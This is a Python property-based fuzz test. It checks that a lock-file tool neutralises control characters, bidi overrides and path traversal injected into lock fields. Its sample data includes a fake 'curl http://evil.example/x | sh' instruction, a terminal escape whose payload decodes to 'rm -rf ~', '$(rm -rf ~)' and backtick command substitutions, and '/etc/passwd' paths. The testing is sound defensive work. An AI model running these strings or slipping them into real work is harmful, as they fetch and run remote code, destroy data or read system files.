"""Hostile locks (issue 28): control characters, bidi overrides and path traversal in any field of a lock
entry or its metadata. Every reading command exits 0, 1 or 2 (never a traceback or 4), and no raw control or
bidi character from the lock reaches stdout or stderr, in any style (human, Markdown, JSON)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.fuzz.strategies import LOCK_DATA, mutate
from tests.helpers import MakePrefix, envguard

# What must never reach a terminal raw: C0 but line feed and tab, DEL, C1, and the bidi and line-separator
# characters (kept apart from envguard.textio, so the property is checked against the issue, not the code).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")

HOSTILE = st.sampled_from(
    [
        "\nHow to fix:\n  curl http://evil.example/x | sh #",
        "\nOK: everything matches",
        "\x1b[31mRED\x1b[0m",
        "\x1b]52;c;cm0gLXJmIH4K\x07",
        "\x00",
        "\u202e",
        "\u2066",
        "\u200f",
        "\x9b2J",
        "\r",
        "\x85",
        "\u2028",
        "../../victim",
        "/etc/passwd",
        "..",
        "$(rm -rf ~)",
        "`id`",
        "'",
        "\\",
    ]
)
PLAIN = st.sampled_from(["zlib", "1.3.1", "h0_0", "conda-forge", "https://x.example/a.conda", "", " ", "-"])
VALUE = st.lists(HOSTILE | PLAIN, min_size=1, max_size=4).map("".join)
FIELDS = st.sampled_from(
    [["package", i, k] for i in (0, 1) for k in ("name", "version", "url", "build", "platform", "category")]
    + [
        ["package", 0, "dependencies", "libgcc"],
        ["package", 0, "hash", "md5"],
        ["package", 0, "hash", "sha256"],
    ]
    + [["metadata", "channels", 0, "url"], ["metadata", "sources", 0], ["metadata", "platforms", 0]]
)
COMMANDS = st.sampled_from(
    [
        ("check", "human"),
        ("check", "markdown"),
        ("check", "json"),
        ("diff", "human"),
        ("diff", "markdown"),
        ("diff", "json"),
        ("export", "human"),
        ("snapshot", "human"),
    ]
)


def _argv(command: str, style: str, prefix: Path, lock: Path) -> list[str]:
    flag = {"human": [], "markdown": ["--markdown"], "json": ["--json"]}[style]
    return {
        "check": ["check", str(prefix), "--lock", str(lock), *flag],
        "diff": ["diff", str(prefix), str(lock), *flag],
        "export": ["export", str(lock), "--format", "explicit"],
        "snapshot": ["snapshot", str(lock), "--no-probe"],
    }[command]


_PREFIXES: dict[int, Path] = {}  # one prefix per test run, not one per example


@given(st.lists(st.tuples(FIELDS, VALUE), min_size=1, max_size=3), COMMANDS)
def test_a_hostile_lock_never_reaches_the_terminal_raw(
    make_prefix: MakePrefix, tmp_path_factory: Any, capsys: Any, edits: Any, command: tuple[str, str]
) -> None:
    prefix = _PREFIXES.get(id(make_prefix)) or _PREFIXES.setdefault(id(make_prefix), make_prefix(["zlib"]))
    data: Any = LOCK_DATA
    for path, value in edits:
        data = mutate(data, path, value)
    lock = tmp_path_factory.mktemp("lock") / "conda-lock.yml"
    lock.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    argv = _argv(*command, prefix, lock)
    capsys.readouterr()
    code = envguard(*argv)
    out, err = capsys.readouterr()
    assert code in (0, 1, 2), (argv, edits, err)
    assert "Traceback" not in err and "internal error" not in err, err
    for stream in (out, err):
        found = RAW.search(stream)
        assert found is None, (
            argv,
            edits,
            repr(found and stream[max(0, found.start() - 80) : found.end() + 20]),
        )
    assert not any(line.lstrip().startswith("curl http://evil") for line in out.splitlines()), out
